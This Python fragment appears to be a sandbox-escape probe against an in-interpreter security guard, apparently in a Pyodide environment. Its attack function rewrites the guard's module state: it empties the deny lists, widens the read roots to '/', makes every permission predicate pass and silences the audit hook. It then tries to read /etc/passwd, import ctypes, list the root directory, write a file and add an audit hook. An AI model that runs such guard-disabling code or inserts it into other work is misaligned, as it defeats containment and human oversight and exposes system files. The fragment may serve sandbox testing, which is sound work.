# Rewrite the in-interpreter guard from dataset code (deny lists, predicates, read roots, any audit-hook
# state reachable from a module), then try what the guard is there to stop.
def attack(marker):
    sys = reach_sys()
    out = {}
    guard = sys.modules.get("sandbox_guard")
    out["guard_in_sys_modules"] = guard is not None
    frozenset = real_builtins()["frozenset"]
    rewritten = 0
    for module in list(sys.modules.values()):
        d = getattr_safe(module)
        if d is None or not any(k.startswith("_DENY") or k in ("_audit", "_from_dataset") for k in d):
            continue
        for key in list(d):
            value = d[key]
            if type(value) is frozenset:
                d[key] = frozenset()
                rewritten += 1
            elif type(value) is tuple and key.startswith("_"):
                d[key] = ("/",) if "root" in key else ()
                rewritten += 1
        for key in ("_from_dataset", "_import_denied", "_is_write"):
            d[key] = lambda *a, **k: False
        d["_under_roots"] = lambda *a, **k: True
        d["_audit"] = lambda *a, **k: None
    out["rewritten"] = rewritten
    b = real_builtins()
    os = sys.modules["os"]
    out["read_passwd"] = attempt(lambda: b["open"]("/etc/passwd").read()[:30])
    out["os_open_passwd"] = attempt(lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 30))
    out["import_ctypes"] = attempt(lambda: real_import("ctypes").CDLL(None))
    out["gc_objects"] = attempt(lambda: js_handles(real_import("gc")))
    out["write_tmp"] = attempt(lambda: b["open"](marker, "w").write("escaped"))
    out["listdir_root"] = attempt(lambda: os.listdir("/"))
    out["add_audit_hook"] = attempt(lambda: hook_added(sys))
    return out


def hook_added(sys):
    """CPython reports nothing when an existing hook refuses a new one: check whether it runs."""
    seen = []
    sys.addaudithook(lambda event, args: seen.append(event))
    sys.audit("toolhop.probe")
    if not seen:
        raise RuntimeError("the new audit hook was not added")
    return seen[0]


def getattr_safe(module):
    try:
        return module.__dict__
    except Exception:
        return None


def js_handles(gc):
    """Objects gc finds that hold a JavaScript object (pyodide's JsProxy types)."""
    found = 0
    for obj in gc.get_objects():
        for ref in gc.get_referents(obj):
            if "JsProxy" in type(ref).__name__ or type(ref).__name__.startswith("Js"):
                found += 1
    return "objects " + str(len(gc.get_objects())) + ", js handles " + str(found)
